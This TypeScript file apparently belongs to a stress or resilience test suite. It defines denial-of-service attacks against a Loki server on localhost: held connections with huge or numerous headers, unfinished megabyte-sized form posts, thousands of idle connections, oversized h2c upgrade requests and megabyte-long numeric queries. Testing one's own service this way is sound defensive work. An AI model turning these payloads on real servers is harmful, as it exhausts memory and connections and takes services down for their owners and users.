// Connections and heads that cost memory before anybody is asked who they are.
import type { Attack } from './attack.ts';
import { hold, repeat } from './send.ts';

const formBytes = 2 ** 20 - 16;
const connections = 1200;
const manyConnections = 4200;

const head = (...lines: readonly string[]): string => lines.map((line) => `${line}\r\n`).join('');
const get = head('GET /loki/api/v1/labels HTTP/1.1', 'Host: 127.0.0.1');
const form = 'application/x-www-form-urlencoded';

/** An unfinished one: the last byte never comes. */
const unfinishedForm = Buffer.concat([
  Buffer.from(
    `${head('POST /loki/api/v1/query HTTP/1.1', 'Host: 127.0.0.1', `Content-Type: ${form}`, `Content-Length: ${formBytes}`)}\r\n`,
  ),
  Buffer.alloc(formBytes - 1, 'query=%7Ba%3D%22b%22%7D&x='),
]);

export const connectionAttacks: readonly Attack[] = [
  hold('one long header', connections, `${get}X-A: ${'a'.repeat(500_000)}`),
  hold(
    'many short headers',
    connections,
    get + Array.from({ length: 25_000 }, (_, at) => `X-${at}: bbbbbbbb\r\n`).join(''),
  ),
  hold('unfinished forms', connections, unfinishedForm),
  hold('idle connections', manyConnections, ''),
  hold(
    'h2c upgrades',
    connections,
    `${head('POST /loki/api/v1/push HTTP/1.1', 'Host: 127.0.0.1', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAEAAEAAAAIAAAABAAMAAABkAAQBAAAAAAUAAEAA', 'Content-Type: application/json', 'Content-Length: 1000000')}\r\n${'x'.repeat(100_000)}`,
  ),
  repeat(
    'a megabyte of digits',
    () => ({
      path: '/loki/api/v1/query_range',
      headers: { 'content-type': form },
      body: `query={a="b"}&limit=${'9'.repeat(2 ** 20 - 40)}`,
    }),
    12,
  ),
];
